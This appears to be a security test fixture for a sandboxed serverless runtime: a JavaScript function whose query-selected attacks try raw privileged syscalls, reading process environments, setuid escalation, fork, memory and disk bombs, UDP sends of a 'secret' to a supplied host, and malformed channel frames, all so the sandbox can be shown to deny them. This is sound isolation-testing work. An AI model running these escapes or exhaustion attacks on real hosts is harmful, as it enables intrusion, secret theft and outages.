/**
 * A function that attacks: `?attack=NAME` runs one attempt. An attempt that is denied throws, or its instance is ended;
 * one that succeeds answers with what it got. `with` passes what it cannot know: files and ports of the host.
 */
import { encodeFrame, encodeJsonFrame, FLAG_FIN, FRAME } from '../src/model/frames.ts';

/** `call(number, …)`: a raw system call. Throws with the name of the error. */
const RAW_CALLS = `
import { dlopen, getInt32, getRawPointer } from 'node:ffi';
import { constants } from 'node:os';
const { functions } = dlopen(null, { syscall: { arguments: Array(7).fill('i64'), return: 'i64' }, __errno_location: { arguments: [], return: 'pointer' } });
const errno = functions.__errno_location();
const names = new Map(Object.entries(constants.errno).map(([name, number]) => [number, name]));
function call(number, ...args) {
  const result = functions.syscall(BigInt(number), ...[0, 1, 2, 3, 4, 5].map((at) => BigInt(args[at] ?? 0)));
  if (result >= 0n) return Number(result);
  const error = getInt32(errno);
  throw Object.assign(new Error(), { code: names.get(error) ?? String(error) });
}
`;

/** What breaks the protocol of an instance's channel (`src/model/frames.ts`), as hexadecimal digits. */
export const BREACHES: Readonly<Record<string, string>> = {
  'an answer to what it never got': encodeFrame(
    FRAME.HTTP_RESPONSE,
    FLAG_FIN,
    4_000_000,
    Buffer.from([200, 0, 0, 0, 0, 0, 0, 0]),
  ).toString('hex'),
  'no frame': 'ff'.repeat(64),
  'a frame of no kind': encodeFrame(0x7f, 0, 0).toString('hex'),
  'a second beginning': encodeJsonFrame(FRAME.READY, 0, 0, { protocol: 1, handlerKind: 'plain' }).toString(
    'hex',
  ),
};

/** System calls of x64: number and arguments, by the name of what they would do. */
export const SYSTEM_CALLS: Readonly<Record<string, readonly (number | string)[]>> = {
  'trace another process': [101, 16, 1],
  'read the memory of another process': [310, 1, 0, 0, 0, 0],
  'write the memory of another process': [311, 1, 0, 0, 0, 0],
  'take a descriptor of another process': [438, 0, 0, 0],
  mount: [165, 0, 0, 0, 0, 0],
  unmount: [166, 0, 0],
  'change the root': [161, 0],
  'swap the root': [155, 0, 0],
  'open a tree of mounts': [428, -100, 0, 0],
  'make a user namespace': [272, 0x1000_0000],
  'make a mount namespace': [272, 0x2_0000],
  'enter a namespace': [308, 0, 0],
  'clone into a user namespace': [56, 0x1000_0011],
  'use clone3': [435, 0, 0],
  'reach the kernel’s keys': [250, 0, -3],
  'add a key': [248, 0, 0, 0, 0, -3],
  'load BPF': [321, 0, 0, 0],
  'watch the processor': [298, 0, 0, -1, -1, 0],
  'set up io_uring': [425, 1, 0],
  'handle page faults': [323, 0],
  'load a module': [175, 0, 0, 0],
  'load a kernel': [246, 0, 0, 0, 0],
  reboot: [169, 0xfee1_dead, 672274793, 0, 0],
  'swap to a file': [167, 0, 0],
  'read the kernel’s log': [103, 3, 0, 0],
  'set the clock': [227, 0, 0],
  'set the name of the host': [170, 0, 0],
  'open a file by handle': [304, 0, 0, 0],
  'watch a whole file system': [300, 0, 0],
  'change the execution domain': [135, 0x20_0000],
  'open a raw socket': [41, 2, 3, 255],
  'open a packet socket': [41, 17, 3, 3],
  'open a socket to the hypervisor': [41, 40, 1, 0],
  'open a crypto socket': [41, 38, 5, 0],
  'open a netfilter socket': [41, 16, 3, 12],
  'open a socket of SCTP': [41, 2, 1, 132],
  'open a socket of L2TP': [41, 2, 2, 115],
  'open a socket of multipath TCP': [41, 10, 1, 262],
  'open a socket of UDP-Lite': [41, 2, 2, 136],
  'open a socket of ICMP': [41, 2, 2, 1],
  'open a pair of sockets of TIPC': [53, 30, 1, 0],
  'open a pair of sockets to the hypervisor': [53, 40, 1, 0],
  'type into a terminal': [16, 0, 0x5412, 0],
  'type into a terminal, with a high bit set': [16, 0, '0x100005412', 0],
  'use a call that is newer than the filter': [467, 0, 0, 0, 0],
  'join the groups of root': [116, 1, 0],
};

export const ATTACKER = `
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import net from 'node:net';
import { Worker } from 'node:worker_threads';
${RAW_CALLS}
const forever = () => new Promise(() => setInterval(() => {}, 1_000));
const connect = (where) => new Promise((resolve, reject) => net.connect(where).once('connect', () => resolve('connected')).once('error', reject));
const read = (path) => fs.readFileSync(path, 'latin1');
/** Fills a folder with one large file. */
const fill = (path) => { const file = fs.openSync(path, 'w'); for (const chunk = Buffer.alloc(1 << 20, 1); ; ) fs.writeSync(file, chunk); };

const attacks = {
  read: ({ path }) => read(path),
  list: ({ path }) => fs.readdirSync(path),
  write: ({ path, text = 'written' }) => { fs.writeFileSync(path, text); return 'written'; },
  link: ({ path }) => { try { fs.unlinkSync('/tmp/link'); } catch {} fs.symlinkSync(path, '/tmp/link'); return read('/tmp/link'); },
  kill: ({ pid }) => process.kill(pid, 0),
  killAll: () => process.kill(-1, 'SIGKILL'),
  call: ({ args }) => call(...args),
  calls: ({ calls }) => calls.map((args) => { try { return call(...args); } catch (error) { return error.code; } }),
  raise: ({ limit, to }) => call(302, 0, limit, getRawPointer(Buffer.from(new BigUint64Array([BigInt(to), BigInt(to)]).buffer)), 0),
  hurry: () => call(141, 0, 0, -20),
  realtime: () => call(144, 0, 1, getRawPointer(Buffer.from(new Int32Array([1]).buffer))),
  device: () => call(133, getRawPointer(Buffer.from('/tmp/disk\\0')), 0o060666, 8 << 8),
  give: () => { fs.writeFileSync('/tmp/given', ''); fs.chownSync('/tmp/given', 0, 0); return 'given'; },
  udp: ({ host, port }) => new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4').on('error', reject);
    socket.send('secret', port, host, (error) => { socket.close(); if (error) reject(error); else resolve('sent'); });
  }),
  lookup: ({ host }) => dns.lookup(host),
  ask: ({ host, server }) => { const resolver = new dns.Resolver({ timeout: 500, tries: 1 }); resolver.setServers([server]); return resolver.resolve4(host); },
  /** Takes all connections that its way out has, each with a request that never ends. */
  hold: async ({ count }) => {
    const held = Array.from({ length: count }, () => net.connect({ path: process.env.LAMBENT_EGRESS }).on('error', () => {}));
    await Promise.all(held.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))));
    for (const socket of held) socket.write('CONNECT 127.0.0.1:');
    return 'held';
  },
  raw: ({ bytes }) => new Promise((resolve, reject) => {
    let answer = '';
    net.connect({ path: process.env.LAMBENT_EGRESS }).on('data', (chunk) => { answer += chunk; }).once('end', () => resolve(answer)).once('error', reject).end(bytes);
  }),
  connect: ({ where }) => connect(where),
  fetch: async ({ url }) => { try { return (await fetch(url, { signal: AbortSignal.timeout(4_000) })).status; } catch (error) { throw error.cause ?? error; } },
  environ: () => read('/proc/1/environ').split('\\0').filter((entry) => entry !== '' && !/^(PWD|OLDPWD|SHLVL|_)=/.test(entry)),
  links: ({ path }) => fs.readdirSync(path).map((name) => { try { return fs.readlinkSync(path + '/' + name); } catch (error) { return error.code; } }),
  become: ({ uid }) => process.setuid(uid),
  arguments: () => read('/proc/1/cmdline'),
  processes: () => fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).length,
  descriptors: () => fs.readdirSync('/proc/self/fd').map((name) => { try { return [Number(name), fs.readlinkSync('/proc/self/fd/' + name)]; } catch { return [0, '']; } }).filter(([number, link]) => number > 3 && !/^(anon_inode|pipe):|\\/dev\\/null$/.test(link)),
  x32: async () => {
    const child = spawn(process.execPath, ['-e', ${JSON.stringify(RAW_CALLS.replaceAll(/import \{([^}]*)\} from '([^']*)';/g, "const {$1} = require('$2');"))} + 'call(0x40000000 + 39); process.exit(42)'], { stdio: 'ignore' });
    const [code, signal] = await new Promise((resolve) => child.once('exit', (...how) => resolve(how)));
    if (signal !== null) throw Object.assign(new Error(), { code: signal });
    return code;
  },
  i386: async () => {
    // mov eax, 1; mov ebx, 42; int 0x80: exit(42), as a program of 32 bits.
    const code = Buffer.from('b801000000bb2a000000cd80', 'hex');
    const elf = Buffer.alloc(84 + code.length);
    elf.write('7f454c46010101', 0, 'hex');
    for (const [at, value] of [[16, 2], [18, 3], [40, 52], [42, 32], [44, 1]]) elf.writeUInt16LE(value, at);
    for (const [at, value] of [[20, 1], [24, 0x8048054], [28, 52], [52, 1], [56, 0], [60, 0x8048000], [64, 0x8048000], [68, elf.length], [72, elf.length], [76, 5], [80, 0x1000]]) elf.writeUInt32LE(value, at);
    code.copy(elf, 84);
    fs.writeFileSync('/tmp/i386', elf, { mode: 0o755 });
    const child = spawn('/tmp/i386', { stdio: 'ignore' });
    const [exit, signal] = await new Promise((resolve, reject) => child.once('exit', (...how) => resolve(how)).once('error', reject));
    if (signal !== null) throw Object.assign(new Error(), { code: signal });
    return exit;
  },
  forks: async () => { for (;;) { for (let each = 0; each < 16; each++) spawn('/bin/sh', ['-c', 'read forever'], { stdio: ['pipe', 'ignore', 'ignore'] }).on('error', () => {}); await new Promise(setImmediate); } },
  threads: async () => { for (let each = 0; each < 400; each++) new Worker('setInterval(() => {}, 1000)', { eval: true, resourceLimits: { maxOldGenerationSizeMb: 4 } }).on('error', () => {}); await forever(); },
  heap: async () => { const kept = []; for (;;) { kept.push(Array.from({ length: 10_000 }, (_, index) => ({ index }))); if (kept.length % 20 === 0) await new Promise(setImmediate); } },
  buffers: () => { const kept = []; for (;;) kept.push(Buffer.alloc(8 << 20, 1)); },
  fill: ({ path }) => fill(path),
  memfd: () => { const file = call(319, getRawPointer(Buffer.from('x\\0')), 0); for (const chunk = Buffer.alloc(1 << 20, 1); ; ) fs.writeSync(file, chunk); },
  inodes: () => { for (let at = 0; ; at++) fs.writeFileSync('/tmp/f' + at, ''); },
  descriptorsBomb: () => { const kept = []; try { for (;;) kept.push(fs.openSync('/dev/null')); } finally { kept.forEach((file) => fs.closeSync(file)); } },
  flood: () => { const text = Buffer.alloc(1 << 20, 'x'); for (let each = 0; each < 64; each++) { try { fs.writeSync(1, text); } catch (error) { if (error.code !== 'EAGAIN') throw error; } } return 'flooded'; },
  breach: ({ hex }) => { fs.writeSync(3, Buffer.from(hex, 'hex')); return forever(); },
  stays: async ({ marker }) => {
    const child = spawn(process.execPath, ['-e', 'process.on("SIGTERM", () => {}); process.on("SIGHUP", () => {}); setInterval(() => {}, 1000) // ' + marker], { detached: true, stdio: 'ignore' });
    child.unref();
    await new Promise((resolve) => child.once('spawn', resolve));
    return 'spawned';
  },
  leave: () => { fs.writeFileSync('/tmp/secret', 'of the tenant before'); return 'left'; },
  setuid: async () => {
    fs.copyFileSync(process.execPath, '/tmp/node');
    fs.chmodSync('/tmp/node', 0o6755);
    const child = spawn('/tmp/node', ['-p', 'process.geteuid()'], { stdio: ['ignore', 'pipe', 'ignore'] });
    let said = '';
    child.stdout.on('data', (chunk) => { said += chunk; });
    await new Promise((resolve, reject) => child.once('close', resolve).once('error', reject));
    // It counts as this instance's memory, which the next attack needs.
    fs.unlinkSync('/tmp/node');
    return { euid: Number(said), own: process.geteuid() };
  },
  exit: () => process.exit(7),
  abort: () => process.abort(),
};

export default { async fetch(request) {
  const { searchParams } = new URL(request.url);
  try {
    return Response.json({ got: (await attacks[searchParams.get('attack')](JSON.parse(searchParams.get('with') ?? '{}'))) ?? null });
  } catch (error) {
    return Response.json({ denied: error.code ?? String(error) });
  }
} };
`;
